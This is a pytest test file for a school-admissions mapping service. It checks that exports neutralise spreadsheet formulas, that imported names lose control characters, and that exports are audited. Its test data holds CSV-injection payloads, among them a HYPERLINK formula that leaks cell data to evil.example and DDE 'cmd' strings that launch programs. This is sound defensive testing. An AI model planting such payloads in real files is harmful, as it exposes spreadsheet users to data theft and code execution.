"""Exports people open cannot run formulas, names cannot hide controls, exports are audited."""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from gis_service import audit
from gis_service.admissions.applicant_import import import_applicants
from gis_service.admissions.exports import export_run
from gis_service.admissions.rounds import create_round
from gis_service.admissions.runs import run_round
from gis_service.cli import app
from gis_service.db.connection import Connection
from gis_service.errors import ImportFileError, InvalidRequestError
from gis_service.importers.osm import import_osm
from gis_service.importers.registry import import_registry
from gis_service.importers.report import no_progress
from gis_service.routing.service import RoutingService
from gis_service.safe_text import SpreadsheetSafeWriter, drop_control_characters, neutralise_cell
from tests.conftest import table_counts
from tests.osm_fixture import write_hand_made_osm
from tests.test_auth import RequestTransactions, add_user, sign_in
from tests.test_import_registry import write_registry

BOM = b"\xef\xbb\xbf"
FORMULA_SCHOOL = '=HYPERLINK("http://evil.example/?x="&A1,"Trường Tiểu học")'
FORMULA_CODE = "-2+3+cmd|' /C calc'!A0"
FORMULA_PRIORITY = "+SUM(1+1)*cmd|' /C notepad'!A0"
FORMULA_SIBLING = "@SUM(A1:A9)"
NEGATIVE_SIBLING = "-7"


def is_formula(cell: str) -> bool:
    """What a spreadsheet would run: starts with = + - @ tab or CR, unless a negative number."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-\d+(\.\d+)?", cell)


# ---------------------------------------------------------------- the neutraliser, by hand


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://x","bấm")',
        "+84 912 345 678",
        "-1+1",
        "-",
        "-12.5abc",
        "@SUM(A1)",
        "\t=1+1",
        "\rcmd",
    ],
)
def test_formula_cells_get_a_leading_apostrophe(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["-12.5", "-3", "-0.25", -5, -12.5, 0, None, "", "Trường Tiểu học Lê Văn Thọ", "12 Lê Lợi"],
)
def test_numbers_and_plain_text_stay_as_they_are(cell: object) -> None:
    assert neutralise_cell(cell) == cell


def test_the_writer_neutralises_every_cell() -> None:
    buffer = io.StringIO()
    writer = SpreadsheetSafeWriter(buffer)
    writer.writerow(["=name", "Hoa Sen"])
    writer.writerows([["@x", -4], ["Đường 3/2", "-4.5"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=name", "Hoa Sen"],
        ["'@x", "-4"],
        ["Đường 3/2", "-4.5"],
    ]


# ---------------------------------------------------------------- a run with dangerous text


def one_value(conn: Connection, query: str, *args: object) -> Any:
    with conn.cursor() as cur:
        cur.execute(query, args)
        row = cur.fetchone()
    assert row is not None
    return row[0]


def households_in(conn: Connection, demo_home: Path, district: str, count: int) -> str:
    """Header and the first `count` demo-city households living in a district, as CSV text."""
    wards = set(
        one_value(
            conn,
            "SELECT array_agg(w.code) FROM admin_units w "
            "JOIN admin_units d ON d.id = w.parent_id WHERE d.code = %s",
            district,
        )
    )
    lines = (demo_home / "demo" / "households.csv").read_text(encoding="utf-8").splitlines()
    ward_column = lines[0].split(",").index("ward_code")
    inside = [line for line in lines[1:] if line.split(",")[ward_column] in wards]
    return "\n".join([lines[0], *inside[:count]]) + "\n"


@pytest.fixture(scope="module")
def routing(demo_home: Path) -> RoutingService:
    return RoutingService(demo_home)


def make_run(conn: Connection, demo_home: Path, routing: RoutingService, folder: Path) -> int:
    """A stored run of a small grade-1 round of district 901."""
    path = folder / "households.csv"
    path.write_text(households_in(conn, demo_home, "901", 80), encoding="utf-8")
    made = create_round(
        conn, name="Lớp 1 Quận 901", grade=1, school_year="2025-2026", districts=["901"]
    )
    import_applicants(conn, made.round_id, path, b"k", no_progress)
    with conn.cursor() as cur:
        # Closed for allocation, as an officer would before running it.
        cur.execute("UPDATE rounds SET status = 'closed' WHERE id = %s", (made.round_id,))
    return run_round(conn, routing, made.round_id, "nearest", seed=1).run_id


def plant_formulas(conn: Connection, run_id: int) -> None:
    """Text a spreadsheet would run, written straight into the tables the export reads."""
    with conn.cursor() as cur:
        cur.execute(
            "SELECT x.applicant_id, x.school_id FROM assignments x WHERE x.run_id = %s "
            "AND x.school_id IS NOT NULL ORDER BY x.applicant_id LIMIT 2",
            (run_id,),
        )
        (first, school), (second, _) = cur.fetchall()
        cur.execute(
            "UPDATE schools SET name = %s, code = %s WHERE id = %s",
            (FORMULA_SCHOOL, FORMULA_CODE, school),
        )
        # The home address is not a column of the export yet; planted so that one added later
        # is checked too.
        cur.execute(
            """
            UPDATE applications a SET priority_group = %s, home_address = %s,
                   priority_status = COALESCE(a.priority_status, 'verified')
            FROM allocation_runs run
            WHERE run.id = %s AND a.round_id = run.round_id AND a.applicant_id = %s
            """,
            (FORMULA_PRIORITY, "=cmd|' /C calc'!A0", run_id, first),
        )
        assert cur.rowcount == 1
        for applicant, sibling_group in ((first, FORMULA_SIBLING), (second, NEGATIVE_SIBLING)):
            cur.execute(
                "UPDATE applications a SET sibling_group = %s FROM allocation_runs run "
                "WHERE run.id = %s AND a.round_id = run.round_id AND a.applicant_id = %s",
                (sibling_group, run_id, applicant),
            )
            assert cur.rowcount == 1


def assert_safe_csv(content: bytes) -> list[dict[str, str]]:
    """The CSV opens in a spreadsheet with Vietnamese intact and runs nothing; its rows."""
    assert content.startswith(BOM)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    running = [cell for row in rows for cell in row if is_formula(cell)]
    assert running == []
    header, *body = rows
    by_column = [dict(zip(header, row, strict=True)) for row in body]
    columns = {key: {row[key] for row in by_column} for key in header}
    assert "'" + FORMULA_SCHOOL in columns["school_name"]
    assert "'" + FORMULA_CODE in columns["school_code"]
    assert "'" + FORMULA_PRIORITY in columns["priority_group"]
    assert {"'" + FORMULA_SIBLING, NEGATIVE_SIBLING} <= columns["sibling_group"]
    assert any(name.startswith("Trường") for name in columns["school_name"])
    return by_column


def test_a_run_export_runs_no_formula_in_a_spreadsheet(
    demo_db: Connection, demo_home: Path, routing: RoutingService, tmp_path: Path
) -> None:
    run_id = make_run(demo_db, demo_home, routing, tmp_path)
    plant_formulas(demo_db, run_id)
    written = export_run(demo_db, run_id, tmp_path / "run.csv", None)
    rows = assert_safe_csv((tmp_path / "run.csv").read_bytes())
    assert len(rows) == written


def test_a_domain_export_is_audited(
    demo_db: Connection, demo_home: Path, routing: RoutingService, tmp_path: Path
) -> None:
    run_id = make_run(demo_db, demo_home, routing, tmp_path)
    written = export_run(
        demo_db,
        run_id,
        tmp_path / "run.csv",
        tmp_path / "run.geojson",
        actor="can.bo.q901",
        remote_addr="10.0.0.9",
    )
    logged = audit.entries(demo_db, action_prefix="run.export")
    assert [(e.actor, e.target, e.remote_addr) for e in logged] == [
        ("can.bo.q901", f"run:{run_id}", "10.0.0.9")
    ]
    assert logged[0].detail == {
        "formats": ["csv", "geojson"],
        "rows": written,
        "homes_included": True,
    }


# ---------------------------------------------------------------- exports over HTTP and CLI


def test_an_api_export_is_safe_and_audited_with_the_officer(
    client: TestClient,
    conn: RequestTransactions,
    demo_home: Path,
    routing: RoutingService,
    tmp_path: Path,
) -> None:
    add_user(conn, "can.bo.q901", "district_officer", area=["901"])
    officer = sign_in(client, "can.bo.q901")
    run_id = make_run(conn, demo_home, routing, tmp_path)
    plant_formulas(conn, run_id)
    round_id = one_value(conn, "SELECT round_id FROM allocation_runs WHERE id = %s", run_id)
    conn.commit()
    base = f"/rounds/{round_id}/runs/{run_id}/export"
    left = set(Path(tempfile.gettempdir()).glob("schoolmap-export-*"))
    exported = client.get(f"{base}?format=csv", headers=officer)
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-disposition"] == f'attachment; filename="run-{run_id}.csv"'
    # The file was sent from a folder of its own, deleted once sent.
    assert set(Path(tempfile.gettempdir()).glob("schoolmap-export-*")) == left
    rows = assert_safe_csv(exported.content)
    # A file with homes is refused until the officer says they read what it holds.
    for unsure in ("geojson", "gpkg"):
        refused = client.get(f"{base}?format={unsure}", headers=officer)
        assert refused.status_code == 400 and "vị trí nhà chính xác" in refused.json()["detail"]
    geojson = client.get(f"{base}?format=geojson&homes=true", headers=officer)
    assert geojson.status_code == 200
    assert len(json.loads(geojson.content)["features"]) == len(rows)
    package = client.get(f"{base}?format=gpkg&homes=true", headers=officer)
    assert package.status_code == 200 and package.content[:16] == b"SQLite format 3\x00"
    # The request's own transaction is gone: the entries were committed with the export.
    logged = audit.entries(conn, action_prefix="run.export")
    assert [(e.actor, e.target, e.remote_addr, e.detail) for e in logged] == [
        (
            "can.bo.q901",
            f"run:{run_id}",
            "testclient",
            {"formats": ["csv"], "rows": len(rows), "homes_included": False},
        ),
        (
            "can.bo.q901",
            f"run:{run_id}",
            "testclient",
            {"formats": ["geojson"], "rows": len(rows), "homes_included": True},
        ),
        (
            "can.bo.q901",
            f"run:{run_id}",
            "testclient",
            {"formats": ["gpkg"], "rows": len(rows), "homes_included": True},
        ),
    ]


class LentConnection:
    """The test's connection lent to a command: closing it drops what was not committed."""

    def __init__(self, conn: RequestTransactions) -> None:
        self._conn = conn

    def __getattr__(self, name: str) -> Any:
        return getattr(self._conn, name)

    def close(self) -> None:
        self._conn.rollback()


def test_a_cli_export_is_audited(
    conn: RequestTransactions,
    demo_home: Path,
    routing: RoutingService,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    run_id = make_run(conn, demo_home, routing, tmp_path)
    conn.commit()
    monkeypatch.setattr("gis_service.cli.open_database", lambda *a, **k: LentConnection(conn))
    csv_path, geojson_path = str(tmp_path / "r.csv"), str(tmp_path / "r.geojson")
    # The CLI, like the API, writes homes only once the officer confirms the warning.
    unsure = CliRunner().invoke(app, ["round", "export", str(run_id), "--geojson", geojson_path])
    assert unsure.exit_code != 0 and "--with-homes" in str(unsure.exception)
    assert not Path(geojson_path).exists()
    result = CliRunner().invoke(
        app,
        ["round", "export", str(run_id), "--csv", csv_path, "--geojson", geojson_path,
         "--with-homes"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    logged = audit.entries(conn, action_prefix="run.export")
    assert [(e.actor, e.target, e.remote_addr) for e in logged] == [
        (audit.SYSTEM_ACTOR, f"run:{run_id}", None)
    ]
    assert logged[0].detail["formats"] == ["csv", "geojson"]
    assert logged[0].detail["homes_included"] is True
    assert (tmp_path / "r.csv").read_bytes().startswith(BOM)


def test_the_forecast_csv_runs_no_formula(
    conn: RequestTransactions, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with conn.cursor() as cur:
        cur.execute(
            "UPDATE admin_units SET name = %s WHERE id = (SELECT min(w.id) FROM admin_units w "
            "JOIN admin_units d ON d.id = w.parent_id WHERE d.code = '901')",
            (FORMULA_SCHOOL,),
        )
        cur.execute("UPDATE admin_units SET name = '@Quận 901' WHERE code = '901'")
    monkeypatch.setattr("gis_service.planning.cli._open", lambda: LentConnection(conn))
    path = tmp_path / "forecast.csv"
    result = CliRunner().invoke(
        app, ["forecast", "run", "--years", "2026", "--district", "901", "--csv", str(path)]
    )
    assert result.exit_code == 0, result.output
    content = path.read_bytes()
    assert content.startswith(BOM)
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows and not [v for row in rows for v in row.values() if is_formula(v)]
    assert {row["district_name"] for row in rows} == {"'@Quận 901"}
    assert "'" + FORMULA_SCHOOL in {row["ward_name"] for row in rows}


# ---------------------------------------------------------------- names checked on the way in

REGISTRY_ROW = "99TH0001,{name},tieu_hoc,public,{address},,106.62086,10.4505,,5,35,,\n"


@pytest.mark.parametrize(
    ("name", "address", "problem"),
    [
        ('=HYPERLINK(""http://x"")', "", "dòng 2: tên trường .* công thức"),
        ("+Trường Tiểu học A", "", r"line 2: the school name .* starts with '\+'"),
        ("@SUM(A1)", "", "line 2: the school name .* like a spreadsheet formula"),
        ("Trường Tiểu học\u202e A", "", r"dòng 2: cột name .* U\+202E"),
        ("Trường Tiểu học\x07 A", "", r"line 2: name holds control character U\+0007"),
        ("Trường Tiểu học\u2066 A", "", r"U\+2066"),
        ("Trường Tiểu học A", "12\x85 Lê Lợi", r"line 2: address holds control character U\+0085"),
        ("Trường Tiểu học A", "12\tLê Lợi", r"line 2: address holds control character U\+0009"),
    ],
)
def test_the_registry_refuses_formula_names_and_control_characters(
    db: Connection, tmp_path: Path, name: str, address: str, problem: str
) -> None:
    before = table_counts(db)
    row = REGISTRY_ROW.format(name=f'"{name}"', address=f'"{address}"')
    with pytest.raises(ImportFileError, match=problem):
        import_registry(db, write_registry(tmp_path / "r.csv", row), no_progress)
    assert table_counts(db) == before


def test_osm_school_names_lose_control_characters(db: Connection, tmp_path: Path) -> None:
    path = write_hand_made_osm(tmp_path / "s.osm")
    text = path.read_text(encoding="utf-8")
    assert 'v="Trường Mầm non Hoa Sen"' in text
    path.write_text(
        text.replace('v="Trường Mầm non Hoa Sen"', 'v="Trường Mầm&#9;non&#x202E; Hoa Sen&#x85;"'),
        encoding="utf-8",
    )
    import_osm(db, path, no_progress)
    with db.cursor() as cur:
        cur.execute("SELECT name FROM schools WHERE osm_type = 'node' AND osm_id = 21")
        assert cur.fetchone() == ("Trường Mầm non Hoa Sen",)


def test_dropping_control_characters_keeps_words_apart() -> None:
    assert drop_control_characters("Trường\tTiểu học\u202e Lê\x00 Lợi\x85") == (
        "Trường Tiểu học Lê Lợi"
    )
    assert drop_control_characters("Trường  Tiểu học") == "Trường  Tiểu học"


def test_a_round_name_with_a_control_character_is_refused(demo_db: Connection) -> None:
    with pytest.raises(InvalidRequestError, match=r"Tên đợt .* U\+202E.* round name"):
        create_round(
            demo_db,
            name="Lớp 1 \u202eQuận 901",
            grade=1,
            school_year="2025-2026",
            districts=["901"],
        )


def test_files_with_homes_need_the_officer_to_say_they_read_the_warning(
    tmp_path: Path,
) -> None:
    """GeoJSON and GeoPackage hold every child's home: without --with-homes the CLI writes
    nothing; with it, the GeoPackage opens as a layer of points in EPSG:4326."""
    import geopandas as gpd

    from gis_service.admissions.exports import HOMES_WARNING

    assert "không công bố" in HOMES_WARNING and "never publish" in HOMES_WARNING
    features = [
        {
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [106.7, 10.78]},
            "properties": {
                "applicant_id": 1,
                "home_unit": "Phường Sài Gòn",
                "school_id": 7,
                "school_name": "Trường Tiểu học Lê Văn Tám",
                "distance_m": 840,
                "reason": "Con được xếp vào …",
                "reason_en": "Placed at …",
                "explanation": {"passed_over": []},
            },
        }
    ]
    from gis_service.admissions.exports import _write_geopackage

    path = tmp_path / "run.gpkg"
    _write_geopackage(path, features)
    layer = gpd.read_file(path, layer="assignments")
    assert layer.crs.to_epsg() == 4326
    assert list(layer["home_unit"]) == ["Phường Sài Gòn"]
    assert (layer.geometry.x[0], layer.geometry.y[0]) == (106.7, 10.78)
